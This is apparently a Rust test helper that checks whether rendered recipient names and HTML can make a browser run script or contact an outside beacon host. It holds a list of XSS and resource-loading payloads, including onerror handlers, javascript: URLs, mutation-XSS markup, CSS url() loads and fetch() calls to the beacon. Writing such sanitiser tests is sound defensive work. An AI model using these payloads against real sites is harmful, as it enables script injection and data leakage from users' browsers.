//! Hostile text and HTML, and the assertion that none of it reached the network.

use super::browser::Chromium;

/// The names in the fixture with hostile recipients.
pub fn hostile_names() -> Vec<String> {
    let path = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/tests/fixtures/recipients/20_xss.csv"
    );
    let mut reader = csv::Reader::from_path(path).expect("the recipients");
    let names = reader
        .records()
        .map(|row| row.expect("a row")[1].to_owned());
    names.collect()
}

/// HTML that tries to run, to load, to post or to go somewhere.
pub fn hostile_html(out: &str) -> Vec<String> {
    let run = format!(
        "top.__xss=1;window.__xss=1;fetch('http://{out}/run');new Image().src='http://{out}/run'"
    );
    let cut = run.replace('"', "&quot;");
    [
        "<script>RUN</script>",
        "<img src=x onerror=\"RUN\"><body onload=\"RUN\"><input autofocus onfocus=\"RUN\">",
        "<svg onload=\"RUN\"><script>RUN</script><image href=http://OUT/svg /></svg>",
        "<math><mtext></form><form><mglyph><style></math><img src onerror=\"RUN\">",
        "<svg></p><style><a id=\"</style><img src=1 onerror='RUN'>\">",
        "<iframe src=\"javascript:RUN\"></iframe><iframe src=http://OUT/frame></iframe><iframe srcdoc=\"<script>RUN</script>\"></iframe>",
        "<meta http-equiv=refresh content=\"0;url=http://OUT/refresh\">",
        "<meta http-equiv=Content-Security-Policy content=\"img-src *\"><img src=http://OUT/img>",
        "<base href=http://OUT/><img src=base.png><a href=x>x</a>",
        "<link rel=preconnect href=http://OUT><link rel=dns-prefetch href=http://OUT><link rel=prefetch href=http://OUT/p>\
         <link rel=preload as=image href=http://OUT/p><link rel=prerender href=http://OUT/p><link rel=stylesheet href=http://OUT/css>\
         <link rel=modulepreload href=http://OUT/p><link rel=icon href=http://OUT/icon><link rel=manifest href=http://OUT/m>",
        "<noscript><link rel=preconnect href=http://OUT></noscript><svg><style><p><link rel=preconnect href=http://OUT></style></svg>",
        "<img src=http://OUT/img srcset=\"http://OUT/1x 1x, http://OUT/2x 2x\"><picture><source srcset=http://OUT/source><img></picture>",
        "<style>@import url(http://OUT/import);@font-face{font-family:f;src:url(http://OUT/font)}\
         body{background:url(http://OUT/bg);font-family:f}p::before{content:url(http://OUT/content)}</style><p>x</p>",
        "<p style=\"background-image:url(http://OUT/style);cursor:url(http://OUT/cursor),auto;list-style:url(http://OUT/list)\">x</p>",
        "<table background=http://OUT/table><tr><td background=http://OUT/td>x</table><body background=http://OUT/body>",
        "<video src=http://OUT/video poster=http://OUT/poster autoplay></video><audio src=http://OUT/audio autoplay></audio>\
         <object data=http://OUT/object></object><embed src=http://OUT/embed><track src=http://OUT/track>",
        "<form id=f action=http://OUT/form method=post><input name=a value=b><input type=image src=http://OUT/input></form><script>f.submit()</script>",
        "<a href=\"javascript:RUN\" id=link>x</a><area href=\"javascript:RUN\"><a href=http://OUT/ping ping=http://OUT/ping>x</a>",
        "<script type=speculationrules>{\"prefetch\":[{\"source\":\"list\",\"urls\":[\"http://OUT/rules\"]}]}</script>",
        "<template shadowrootmode=open><script>RUN</script><img src=http://OUT/shadow></template><div><template shadowrootmode=open><img src=x onerror=\"RUN\"></template></div>",
        "<img src=\"cid:x\"><img src=\"cid:../../x\"><img src=\"CID:%00\"><img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'><image href='http://OUT/inner'/></svg>\">",
        "<plaintext><script>RUN</script>",
        "<!--><img src=x onerror=\"RUN\">--><![CDATA[<img src=x onerror=\"RUN\">]]><?xml version=1.0?><xml>x</xml>",
        "<details open ontoggle=\"RUN\">x</details><marquee onstart=\"RUN\">x</marquee><dialog open>x</dialog><button popovertarget=p onclick=\"RUN\">x</button>",
    ]
    .map(|html| html.replace("RUN", &cut).replace("OUT", out))
    .to_vec()
}

/// Asserts that the browser connected to nothing but the page's own server.
#[track_caller]
pub fn assert_nothing_sent(browser: &Chromium) {
    let beacon = browser.beacon();
    assert_eq!(beacon.seen_until_now(), Vec::<String>::new());
    // The beacon works: it sees this request. A busy browser also opens a second, empty connection.
    browser.go("http://out.example/control");
    let mut seen = beacon.seen();
    seen.retain(|line| line.starts_with("GET "));
    assert_eq!(
        seen.first().map(String::as_str),
        Some("GET /control HTTP/1.1")
    );
}
